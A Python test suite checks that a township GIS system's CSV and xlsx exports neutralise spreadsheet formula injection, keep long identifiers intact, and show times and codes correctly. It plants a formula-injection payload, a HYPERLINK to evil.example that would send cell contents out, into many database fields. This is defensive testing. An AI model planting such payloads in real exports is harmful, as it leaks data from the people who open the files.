"""Every spreadsheet export (API routes and CLI files): formula prefixes planted in every text
field people write come out neutralised, identifiers keep every digit, times are Beijing time with
the zone, codes are the pages' Chinese; in CSV and in xlsx alike."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
import shapely
from sqlalchemy import create_engine, text
from sqlalchemy.pool import NullPool

from gis.incidents.categories import Category, DisputeKind
from gis.incidents.loop import State
from gis.spreadsheet import FORMULA_STARTS, Table, csv_text, csv_text_read, is_number_like
from tests.conftest import database_copy, make_client

# OWASP's formula starts, each in front of a payload; one planted row per prefix.
PREFIXES = ["=", "+", "-", "@", "\t", "\r", " ="]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"点我")'
CODES = (
    {c.value for c in Category}
    | {k.value for k in DisputeKind}
    | {s.value for s in State}
    | {
        "True",
        "False",
        "true",
        "false",
        "shown",
        "masked",
        "road",
        "straight",
        "HH",
        "LL",
        "HL",
        "LH",
    }
)
TIME_START = re.compile(r"\d{4}-\d\d-\d\d[ T]\d\d:\d\d")
BEIJING_TIME = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\+08:00")


def planted(field: str, i: int) -> str:
    return f"{PREFIXES[i]}{PAYLOAD}{field}{i}"


# --- the writer itself ---------------------------------------------------------------------------


def excel_csv_value(cell: str):
    """What a spreadsheet makes of a CSV cell: text after a leading ', a formula, a number, text."""
    if cell.startswith("'"):
        return ("text", cell[1:])
    if is_number_like(cell):  # -1.5 is a number; -1+1 a formula
        return ("number", float(cell.strip().replace(",", "").rstrip("%")))
    if cell[:1] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS:
        return ("formula", cell)
    return ("text", cell)


def test_the_writer_marks_formulas_and_numbers_as_text_and_keeps_digits():
    table = Table({"a": "甲", "b": "乙"}, labels={"a": {"x": "叉"}}, times=frozenset({"b"}))
    for p in PREFIXES:
        assert excel_csv_value(csv_text(p + "1+1"))[0] == "text"
    for ident in ("4113241050070040123", "411324105007004", "0377123456", "1.5e3", "12,345"):
        kind, value = excel_csv_value(csv_text(ident))
        assert (kind, value) == ("text", ident)
    assert csv_text("张三") == "张三" and csv_text("'=x") == "''=x"
    for value in ("张三", "'=x", "'", "''1", "=1+1", "-3", "411324105007004", "a'b", ""):
        assert csv_text_read(csv_text(value)) == value
    assert table.value("b", "2024-04-30T16:00:00+00:00") == "2024-05-01 00:00:00+08:00"
    assert (
        table.value("a", "x") == "叉"
        and table.value("a", True) == "是"
        and table.value("a", False) == "否"
    )
    assert table.value("a", 10**11) == str(10**11) and table.value("a", 10**11 - 1) == 10**11 - 1
    with pytest.raises(ValueError):
        table.value("b", "2024-05-01T00:00:00")  # no zone: refused, not guessed


def test_xlsx_cells_are_text_never_formulas_and_keep_all_digits():
    table = Table({"no": "户号", "name": "户主", "n": "人数"})
    rows = [{"no": "4113241050070040123", "name": p + "1+1", "n": 3} for p in PREFIXES]
    ws = openpyxl.load_workbook(io.BytesIO(table.xlsx_bytes(rows))).active
    got = list(ws.iter_rows(min_row=2))
    assert [c.value for c in next(ws.iter_rows(max_row=1))] == ["户号", "户主", "人数"]
    for (no, name, n), p in zip(got, PREFIXES, strict=True):
        assert (no.value, no.data_type) == ("4113241050070040123", "s")
        # XML reads a carriage return back as a line feed: still text, still marked.
        assert (name.value, name.data_type, name.quotePrefix) == (
            p.replace("\r", "\n") + "1+1",
            "s",
            True,
        )
        assert (n.value, n.data_type) == (3, "n")


# --- the exports, with planted data ---------------------------------------------------------


@pytest.fixture(scope="module")
def planted_db(test_db_url, accounts):
    """A private copy of the sample town where every text field people write holds a formula:
    incidents (description, reporter name and phone, posted through the API), failed logins
    (the audit log's actor), households (head, address, natural village, phone), staff (name,
    phone) and grid names (as a boundary file would bring them); and a flood extent over them."""
    from gis.db import transaction
    from gis.flood.extents import save_extent
    from tests.test_flood_finder import as_multi

    with database_copy(test_db_url, "exports") as url:
        engine = create_engine(url, poolclass=NullPool)
        grid = accounts["grid_staff"]["scope_codes"][0]
        with transaction(engine) as s:
            village = s.execute(
                text("SELECT parent_code FROM grid WHERE code = :c AND valid_to IS NULL"), {"c": grid}
            ).scalar_one()
            homes = s.execute(
                text(
                    "SELECT id, household_no FROM household h WHERE EXISTS (SELECT 1 FROM grid g "
                    "WHERE g.code = :c AND g.valid_to IS NULL AND ST_Contains(g.geom, h.geom)) "
                    "ORDER BY id LIMIT :n"
                ),
                {"c": grid, "n": len(PREFIXES)},
            ).all()
            for i, (hid, _) in enumerate(homes):
                s.execute(
                    text(
                        "UPDATE household SET head_name = :a, address = :b, phone = :p WHERE id = :id"
                    ),
                    {
                        "a": planted("head", i),
                        "b": planted("addr", i),
                        "p": ("+" if i % 2 else "-") + "86-13800000000",
                        "id": hid,
                    },
                )
                s.execute(
                    text(
                        "UPDATE natural_village SET name = :c WHERE id = "
                        "(SELECT natural_village_id FROM household WHERE id = :id)"
                    ),
                    {"c": planted("nv", i), "id": hid},
                )
            staff = (
                s.execute(text("SELECT id FROM staff WHERE grid_code = :c ORDER BY id"), {"c": grid})
                .scalars()
                .all()
            )
            for i, sid in enumerate(staff):
                s.execute(
                    text("UPDATE staff SET name = :n, phone = :p WHERE id = :id"),
                    {"n": planted("staff", i % len(PREFIXES)), "p": "+1-2+3", "id": sid},
                )
            for code, i in ((grid, 0), (village, 1)):
                s.execute(
                    text("UPDATE grid SET name = :n WHERE code = :c AND valid_to IS NULL"),
                    {"n": planted("grid", i), "c": code},
                )
            geom = shapely.from_wkb(
                bytes(
                    s.execute(
                        text("SELECT ST_AsBinary(geom) FROM grid WHERE code = :c AND valid_to IS NULL"),
                        {"c": grid},
                    ).scalar_one()
                )
            )
            extent = save_extent(s, as_multi(geom.buffer(0.0005)), "drawn", planted("extent", 2))
            point = s.execute(
                text(
                    "SELECT ST_X(ST_PointOnSurface(geom)), ST_Y(ST_PointOnSurface(geom)) FROM grid "
                    "WHERE code = :c AND valid_to IS NULL"
                ),
                {"c": grid},
            ).one()
        engine.dispose()
        with make_client(url, "admin") as admin, make_client(url, None) as anonymous:
            for i in range(len(PREFIXES)):
                r = admin.post(
                    "/incidents",
                    json={
                        "category": "dispute",
                        "dispute_kind": "neighbour",
                        "description": planted("desc", i),
                        "occurred_at": "2024-05-01T08:00:00+08:00",
                        "lon": point[0],
                        "lat": point[1],
                        "reporter_name": planted("reporter", i),
                        "reporter_phone": ("+" if i % 2 else "-") + "8613800000",
                    },
                )
                assert r.status_code in (200, 201), r.text
                anonymous.post(
                    "/auth/login", json={"username": planted("login", i), "password": "wrong"}
                )
        yield {"url": url, "grid": grid, "extent": extent.id, "household_nos": {no for _, no in homes}}


# Every export route and the query that reaches the planted rows. A new export route fails
# `test_every_export_route_is_covered` until it is added here.
ROUTES = {
    "/incidents": lambda db: {"grid_code": db["grid"], "limit": 1000},
    "/households": lambda db: {"grid_code": db["grid"], "limit": 1000},
    "/flood/households": lambda db: {"extent": db["extent"], "limit": 5000},
    "/hotspots": lambda db: {"category": "all"},
    "/audit/export": lambda db: {"action": "login"},
    # Members answering for more than one household are listed: the planted staff names and grid come out.
    "/register/quality": lambda db: {"per_kind": 1000, "member_limit": 1},
}


def export_routes() -> set[str]:
    from api.main import create_app

    found = set()
    for path, ops in create_app().openapi()["paths"].items():
        for p in ops.get("get", {}).get("parameters", []):
            schema = p.get("schema", {})
            enum = schema.get("enum") or [
                e for s in schema.get("anyOf", []) for e in s.get("enum", [])
            ]
            if p["name"] == "format" and "csv" in enum:
                found.add(path)
    return found


def test_every_export_route_is_covered():
    assert export_routes() == set(ROUTES)


def csv_cells(payload: bytes) -> tuple[list[str], list[list[str]]]:
    assert payload.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(payload.decode("utf-8-sig"), newline="")))
    return rows[0], rows[1:]


def check_cells(
    where: str, header: list[str], rows: list[list], planted_texts: set[str]
) -> set[str]:
    """The class checks on every cell; returns the planted texts found (after the text mark)."""
    found = set()
    assert rows, f"{where}: no rows"
    for row in rows:
        for name, cell in zip(header, row, strict=True):
            if cell in ("", None):
                continue
            # Excel shows 12+ digits as 4.1E+14 and keeps 15: identifiers must not be numbers.
            if isinstance(cell, (int, float)):  # xlsx
                assert not isinstance(cell, int) or abs(cell) < 10**11, (
                    f"{where} {name}: {cell!r} loses digits"
                )
                continue
            kind, value = excel_csv_value(cell) if where.endswith("csv") else ("text", cell)
            assert kind != "formula", f"{where} {name}: {cell!r} would run as a formula"
            if kind == "number":
                plain = (
                    cell.strip()
                    .lstrip("+-")
                    .split(".")[0]
                    .split("e")[0]
                    .split("E")[0]
                    .replace(",", "")
                )
                assert len(plain) <= 11 and not (len(plain) > 1 and plain.startswith("0")), (
                    f"{where} {name}: {cell!r} would lose digits"
                )
                continue
            assert value not in CODES, (
                f"{where} {name}: the code {value!r} instead of its Chinese label"
            )
            if TIME_START.match(value):
                assert BEIJING_TIME.fullmatch(value), (
                    f"{where} {name}: {value!r} is not Beijing time with +08:00"
                )
            found |= {t for t in planted_texts if t in value}
    return found


def all_planted() -> set[str]:
    return {
        planted(f, i)
        for f in ("desc", "reporter", "login", "head", "addr", "nv", "staff", "grid")
        for i in range(len(PREFIXES))
    }


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("path", sorted(ROUTES))
def test_every_export_is_safe_in_every_column(planted_db, path, fmt):
    with make_client(planted_db["url"], "admin") as admin:
        r = admin.get(path, params={**ROUTES[path](planted_db), "format": fmt})
    assert r.status_code == 200, r.text
    if fmt == "csv":
        header, rows = csv_cells(r.content)
    else:
        wb = openpyxl.load_workbook(io.BytesIO(r.content))
        cells = list(wb.active.iter_rows())
        assert all(c.data_type != "f" for row in cells for c in row), (
            "a formula cell in the workbook"
        )
        header = [c.value for c in cells[0]]
        rows = [[c.value for c in row] for row in cells[1:]]
    found = check_cells(f"{path} {fmt}", header, rows, all_planted())
    expected = {
        "/incidents": {"desc", "reporter"},
        "/households": {"head", "addr", "nv", "grid"},
        "/flood/households": {"head", "addr", "nv", "staff", "grid"},
        "/hotspots": {"grid"},
        "/audit/export": {"login"},
        "/register/quality": {"staff", "grid"},   # members over the limit of 1, with their grids
    }[path]
    # The planted text came through, whole, in every field that carries it (only marked as text).
    for field in expected:
        n = 2 if field == "grid" else (1 if field == "staff" else len(PREFIXES))
        assert {planted(field, i) for i in range(n)} & found, f"{path}: no planted {field}"
    if field_cols := {"/households": "户号", "/flood/households": "户号"}.get(path):
        col = header.index(field_cols)
        shown = {(c[1:] if fmt == "csv" else c) for c in (row[col] for row in rows)}
        assert planted_db["household_nos"] <= shown  # all 19 digits, as text
    if path == "/incidents":
        got = {
            h: [row[header.index(h)] for row in rows]
            for h in ("类别", "纠纷类型", "环节", "发生时间", "超期")
        }
        assert set(got["类别"]) >= {"矛盾纠纷"} and set(got["纠纷类型"]) >= {"邻里纠纷"}
        assert set(got["环节"]) >= {"一访"} and set(got["超期"]) <= {"是", "否"}
        assert "2024-05-01 08:00:00+08:00" in got["发生时间"]
        # The 15-digit grid codes are text: marked in CSV, string cells in xlsx.
        mark = "'" if fmt == "csv" else ""
        assert {row[header.index("四级网格")] for row in rows} == {mark + planted_db["grid"]}


def test_cli_exports_go_through_the_same_writer(planted_db, tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from gis import settings as settings_mod
    from gis.cli import app

    monkeypatch.setenv("DATABASE_URL", planted_db["url"].render_as_string(hide_password=False))
    settings_mod.get_settings.cache_clear()
    try:
        runner = CliRunner()
        flood = tmp_path / "flood.csv"
        r = runner.invoke(
            app, ["flood", "households", "--extent", str(planted_db["extent"]), "--csv", str(flood)]
        )
        assert r.exit_code == 0, r.output
        hot = tmp_path / "hot.csv"
        r = runner.invoke(app, ["hotspots", "--category", "all", "--out", str(hot)])
        assert r.exit_code == 0, r.output
        hot_xlsx = tmp_path / "hot.xlsx"
        r = runner.invoke(app, ["hotspots", "--category", "all", "--out", str(hot_xlsx)])
        assert r.exit_code == 0, r.output
    finally:
        settings_mod.get_settings.cache_clear()
    header, rows = csv_cells(flood.read_bytes())
    found = check_cells("cli flood csv", header, rows, all_planted())
    assert {planted("head", 0), planted("grid", 0)} <= found
    assert planted_db["household_nos"] <= {row[header.index("户号")][1:] for row in rows}
    header, rows = csv_cells(hot.read_bytes())
    assert header[:3] == ["单元编号", "网格编码", "名称"]
    assert planted("grid", 0) in check_cells("cli hotspots csv", header, rows, all_planted())
    ws = openpyxl.load_workbook(hot_xlsx).active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    codes = [row[0] for row in ws.iter_rows(min_col=2, max_col=2, min_row=2, values_only=True)]
    assert planted_db["grid"] in codes and all(isinstance(c, str) for c in codes)
